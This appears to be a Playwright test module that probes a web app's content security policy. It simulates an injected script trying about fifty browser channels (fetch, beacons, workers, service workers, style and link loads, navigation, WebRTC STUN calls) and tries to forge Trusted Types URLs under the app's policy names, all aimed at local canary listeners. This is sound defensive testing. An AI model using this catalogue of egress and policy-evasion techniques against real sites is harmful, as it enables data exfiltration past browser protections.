import type { Page } from 'playwright-core';
import type { Canary } from './canary';

/** Where the attempts of one channel would arrive. */
export interface Target {
  /** `http://host:port/word`; the word is the channel's own. */
  readonly http: string;
  readonly socket: string;
  /** `stun:host:port`; each channel has a port of its own. */
  readonly stun: string;
  /** An address where a mere connection counts. */
  readonly connect: string;
}

export interface Channel {
  readonly name: string;
  /** Takes the page with it, or must be alone for its trace to be told apart. */
  readonly isAlone?: boolean;
  /** Runs inside the page, so it uses nothing from outside but `attack`; may throw, which is one way of being refused. As a
   * text where the test's own loader would rewrite it. */
  readonly run: ((target: Target) => unknown) | string;
}

interface Attack {
  /** Adds an element to the page. */
  plant(tag: string, properties: object, place?: Element): HTMLElement;
  /** Makes an address pass for a trusted one, where the page lets a script make such values. */
  forge(address: string): string;
  /** Starts a thread from code. */
  thread(code: string): void;
  /** Registers a service worker for a folder of its own. */
  register(path: string): Promise<unknown>;
  /** Calls a peer through a STUN server, with the means of a window. */
  call(window: typeof globalThis | Window, stun: string): Promise<void>;
}

declare global {
  var attack: Attack;
}

/** Runs inside the page first: the tools of a script that has got in, which knows our policy and its names. */
export function prepareAttack(): void {
  interface Maker {
    createScriptURL(url: string): string;
    createScript(code: string): string;
  }
  const { trustedTypes } = globalThis as { trustedTypes?: { createPolicy(name: string, rules: Maker): Maker } };
  const same = (text: string) => text;
  const makers = ['kith-worker', 'kith-release', 'svelte-trusted-html', 'default', 'mine'].map((name) => {
    try {
      return trustedTypes?.createPolicy(name, { createScriptURL: same, createScript: same });
    } catch {
      return undefined;
    }
  });
  const maker = makers.find((made) => made !== undefined);
  globalThis.attack = {
    plant(tag, properties, place = document.body) {
      const element = Object.assign(document.createElement(tag), properties);
      place.append(element);
      return element;
    },
    forge: (address) => maker?.createScriptURL(address) ?? address,
    thread: (code) => void new Worker(attack.forge(URL.createObjectURL(new Blob([code])))),
    register: (path) => navigator.serviceWorker.register(attack.forge(path), { scope: './attack/' }),
    async call(window, stun) {
      const { RTCPeerConnection: Peer } = window as typeof globalThis;
      const peer = new Peer({ iceServers: [{ urls: stun }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    },
  };
}

/** Scripts that stand on the page's own host, as after a break-in there, by path. */
export const hostScripts = (targetOf: (channel: string) => Target): Readonly<Record<string, string>> => {
  const code: Readonly<Record<string, (target: Target) => string>> = {
    'file-thread-fetch': ({ http }) => `fetch('${http}')`,
    'file-thread-import': ({ http }) => `importScripts('${http}')`,
    'shared-thread': ({ http }) => `fetch('${http}')`,
    'service-worker-fetch': ({ http }) => `fetch('${http}', { mode: 'no-cors' })`,
    'service-worker-import': ({ http }) => `importScripts('${http}')`,
    'service-worker-socket': ({ socket }) => `new WebSocket('${socket}')`,
  };
  return Object.fromEntries(Object.entries(code).map(([name, write]) => [`attack/${name}.js`, write(targetOf(name))]));
};

/** Requests by script, and code from elsewhere. */
const requests: readonly Channel[] = [
  { name: 'fetch', run: ({ http }) => fetch(http) },
  { name: 'fetch-no-cors', run: ({ http }) => fetch(http, { mode: 'no-cors' }) },
  { name: 'fetch-keepalive', run: ({ http }) => fetch(http, { method: 'POST', body: 'x', keepalive: true }) },
  {
    name: 'fetch-later',
    run: ({ http }) =>
      (globalThis as unknown as { fetchLater(url: string, init: object): void }).fetchLater(http, { activateAfter: 0 }),
  },
  {
    name: 'xhr',
    run({ http }) {
      const request = new XMLHttpRequest();
      request.open('GET', http);
      request.send();
    },
  },
  { name: 'beacon', run: ({ http }) => navigator.sendBeacon(http, 'x') },
  { name: 'websocket', run: ({ socket }) => void new WebSocket(socket) },
  { name: 'event-source', run: ({ http }) => void new EventSource(http) },
  { name: 'script', run: ({ http }) => void attack.plant('script', { src: attack.forge(http) }) },
  {
    name: 'module-script',
    run: ({ http }) => void attack.plant('script', { type: 'module', src: attack.forge(http) }),
  },
  { name: 'dynamic-import', run: '({ http }) => import(http)' },
  { name: 'worklet', run: ({ http }) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(http) },
];

/** What elements load. */
const elements: readonly Channel[] = [
  { name: 'image', run: ({ http }) => void attack.plant('img', { src: http }) },
  { name: 'srcset', run: ({ http }) => void attack.plant('img', { srcset: `${http} 1x` }) },
  {
    name: 'svg-image',
    run({ http }) {
      const [svg, image] = ['svg', 'image'].map((tag) => document.createElementNS('http://www.w3.org/2000/svg', tag));
      image!.setAttribute('href', http);
      svg!.append(image!);
      document.body.append(svg!);
    },
  },
  { name: 'input-image', run: ({ http }) => void attack.plant('input', { type: 'image', src: http }) },
  { name: 'video', run: ({ http }) => void attack.plant('video', { src: http, preload: 'auto' }) },
  { name: 'poster', run: ({ http }) => void attack.plant('video', { poster: http }) },
  { name: 'audio', run: ({ http }) => void attack.plant('audio', { src: http, preload: 'auto' }) },
  {
    name: 'track',
    run({ http }) {
      const video = attack.plant('video', { crossOrigin: 'anonymous' }) as HTMLVideoElement;
      attack.plant('track', { src: http, default: true, kind: 'captions' }, video);
      for (const track of video.textTracks) track.mode = 'showing';
    },
  },
  { name: 'object', run: ({ http }) => void attack.plant('object', { data: attack.forge(http) }) },
  { name: 'embed', run: ({ http }) => void attack.plant('embed', { src: attack.forge(http) }) },
  { name: 'frame', run: ({ http }) => void attack.plant('iframe', { src: http }) },
  { name: 'frame-text', run: ({ http }) => void attack.plant('iframe', { srcdoc: `<img src="${http}">` }) },
  {
    name: 'frame-form',
    run({ http }) {
      attack.plant('iframe', { name: 'form-frame' });
      (attack.plant('form', { action: http, target: 'form-frame' }) as HTMLFormElement).submit();
    },
  },
];

/** What links load or prepare, and what style sheets load; a constructed sheet needs no inline style. */
const links: readonly Channel[] = [
  { name: 'stylesheet', run: ({ http }) => void attack.plant('link', { rel: 'stylesheet', href: http }) },
  { name: 'prefetch', run: ({ http }) => void attack.plant('link', { rel: 'prefetch', href: http }) },
  { name: 'preload', run: ({ http }) => void attack.plant('link', { rel: 'preload', as: 'image', href: http }) },
  { name: 'modulepreload', run: ({ http }) => void attack.plant('link', { rel: 'modulepreload', href: http }) },
  { name: 'manifest', run: ({ http }) => void attack.plant('link', { rel: 'manifest', href: http }, document.head) },
  { name: 'preconnect', run: ({ connect }) => void attack.plant('link', { rel: 'preconnect', href: connect }) },
  {
    name: 'speculation',
    run({ http }) {
      const rules = JSON.stringify({ prefetch: [{ source: 'list', urls: [http], eagerness: 'immediate' }] });
      attack.plant('script', { type: 'speculationrules', textContent: rules });
    },
  },
  { name: 'ping', run: ({ http }) => attack.plant('a', { href: '#/home', ping: http }).click() },
  {
    name: 'css-background',
    run({ http }) {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background-image: url("${http}") !important }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
  },
  { name: 'css-import', run: ({ http }) => void attack.plant('style', { textContent: `@import "${http}";` }) },
  { name: 'font-face', run: ({ http }) => new FontFace('away', `url("${http}")`).load() },
];

const threads: readonly Channel[] = [
  { name: 'blob-thread-fetch', run: ({ http }) => attack.thread(`fetch('${http}')`) },
  { name: 'blob-thread-import', run: ({ http }) => attack.thread(`importScripts('${http}')`) },
  { name: 'blob-thread-socket', run: ({ socket }) => attack.thread(`new WebSocket('${socket}')`) },
  { name: 'file-thread-fetch', run: () => void new Worker(attack.forge('attack/file-thread-fetch.js')) },
  { name: 'file-thread-import', run: () => void new Worker(attack.forge('attack/file-thread-import.js')) },
  { name: 'shared-thread', run: () => void new SharedWorker(attack.forge('attack/shared-thread.js')) },
  { name: 'service-worker-fetch', isAlone: true, run: () => attack.register('attack/service-worker-fetch.js') },
  { name: 'service-worker-import', isAlone: true, run: () => attack.register('attack/service-worker-import.js') },
  { name: 'service-worker-socket', isAlone: true, run: () => attack.register('attack/service-worker-socket.js') },
];

/** What no content policy stops: other documents, other windows, peers. */
const departures: readonly Channel[] = [
  { name: 'location', isAlone: true, run: ({ http }) => void (location.href = http) },
  { name: 'top', isAlone: true, run: ({ http }) => void (top!.location.href = http) },
  { name: 'popup', isAlone: true, run: ({ http }) => void open(http) },
  { name: 'link', isAlone: true, run: ({ http }) => attack.plant('a', { href: http }).click() },
  { name: 'download', isAlone: true, run: ({ http }) => attack.plant('a', { href: http, download: 'x' }).click() },
  {
    name: 'refresh',
    isAlone: true,
    run: ({ http }) => void attack.plant('meta', { httpEquiv: 'refresh', content: `0;url=${http}` }, document.head),
  },
  { name: 'peer', run: ({ stun }) => attack.call(globalThis, stun) },
  {
    name: 'peer-in-frame',
    run: ({ stun }) => attack.call((attack.plant('iframe', {}) as HTMLIFrameElement).contentWindow!, stun),
  },
];

export const channels: readonly Channel[] = [...requests, ...elements, ...links, ...threads, ...departures];

/** How long an attempt may take to arrive at a listener on the same machine. */
const patienceMs = 1500;

/**
 * Tries channels at once in one page. A refusal may be silent, so that only what arrives elsewhere tells what got
 * through; it is over when all have arrived or had their time.
 */
export async function tryIn(page: Page, tried: readonly Channel[], canary: Canary): Promise<void> {
  await page.evaluate(prepareAttack);
  for (const { name, run } of tried) {
    const target = canary.targetOf(name);
    const attempt =
      typeof run === 'string' ? page.evaluate(`(${run})(${JSON.stringify(target)})`) : page.evaluate(run, target);
    // Refused, never answered, or the page is gone: none of it says whether something has arrived.
    attempt.catch(() => undefined);
  }
  const deadline = Date.now() + patienceMs;
  while (Date.now() < deadline && !tried.every(({ name }) => canary.reached.has(name)))
    await new Promise((resolve) => setTimeout(resolve, 50));
}
